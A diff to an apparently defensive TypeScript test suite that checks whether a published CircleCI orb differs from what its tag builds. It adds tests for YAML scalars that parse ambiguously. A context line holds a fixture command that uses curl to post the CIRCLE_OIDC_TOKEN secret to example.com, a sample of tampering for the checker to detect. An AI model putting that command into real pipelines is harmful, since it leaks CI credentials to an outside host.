@@ -54,6 +54,13 @@ for (const [how, text] of reprinted) {
   });
 }
 
+test('plain text that no version of YAML takes for anything else is no finding', () => {
+  for (const text of ['1.2.3_4', '2026-01-01 is a day', '127.0.0.1:443', '0x', 'yes.', 'none', '.']) {
+    const orb = (printed: string): string => `version: 2.1\ndescription: ${printed}\n`;
+    assert.deepEqual(orbDifferences(orb(text), orb(JSON.stringify(text))), [], text);
+  }
+});
+
 const exfiltrating = { run: { name: 'Report', command: 'curl -d "$CIRCLE_OIDC_TOKEN" https://example.com' } };
 
 const tampered: readonly (readonly [what: string, text: string, finding: string | RegExp])[] = [
@@ -133,7 +140,7 @@ const tampered: readonly (readonly [what: string, text: string, finding: string 
     built.replace(/^executors:\n/m, 'executors:\n    <<: { default: { machine: true } }\n'),
     'executors.<< is in the published orb, but not in what the tag builds',
   ],
-  ...['yes', 'off', '010', '1:30', '1_000', '1e3', '2026-01-01'].map(
+  ...['yes', 'off', '010', '1:30', '1_000', '1e3', '0o17', '0b11', '2026-01-01', '2026-01-01 10:00:00'].map(
     (text) =>
       [
         `${text} without quotes`,
